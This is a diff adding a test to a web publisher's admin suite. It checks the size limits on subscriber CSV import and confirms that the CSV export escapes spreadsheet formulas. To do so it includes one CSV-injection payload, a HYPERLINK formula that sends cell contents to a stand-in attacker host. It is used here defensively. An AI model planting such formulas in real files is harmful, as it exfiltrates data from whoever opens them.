@@ -237,3 +237,32 @@ def test_every_page_renders_in_chinese_and_in_english(console_site: Site) -> Non
             assert answer.status_code == 200 and f'<html lang="{language}">' in page and nav in page, (language, url)
             pages += 1
         assert pages >= 12
+
+
+def test_the_import_takes_a_large_file_refuses_a_huge_one_and_the_export_holds_no_formula(console_site: Site) -> None:
+    import csv
+    import io
+
+    from publisher.web.admin.subscribers import IMPORT_LIMIT
+
+    client = signed_in_client(console_site)
+    token = csrf_of(client, "/admin/subscribers")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    lines = [f"reader{n}@example.com,读者{n}" for n in range(4000)] + [
+        f'formula@example.com,"{formula.replace(chr(34), chr(34) * 2)}"'
+    ]
+    large = ("email,name\n" + "\n".join(lines) + "\n").encode()
+    assert 64 * 1024 < len(large) < IMPORT_LIMIT  # over the app's form limit, within the import's
+    answer = client.post("/admin/subscribers/import", content_type="multipart/form-data",
+                         data={"csrf": token, "file": (io.BytesIO(large), "many.csv")})  # fmt: skip
+    assert answer.status_code == 200 and "新增 4001" in answer.get_data(as_text=True)
+    huge = b"email,name\n" + b"x" * IMPORT_LIMIT
+    refused = client.post("/admin/subscribers/import", content_type="multipart/form-data",
+                          data={"csrf": token, "file": (io.BytesIO(huge), "huge.csv")})  # fmt: skip
+    assert refused.status_code == 413 and "20 MB" in refused.get_data(as_text=True)
+    exported = client.get("/admin/subscribers/export.csv").get_data(as_text=True)
+    row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["email"] == "formula@example.com")
+    assert row["name"] == "'" + formula  # shown as text by a spreadsheet
+    assert not any(
+        cell[:1] in ("=", "+", "-", "@", "\t", "\r") for r in csv.reader(io.StringIO(exported)) for cell in r
+    )
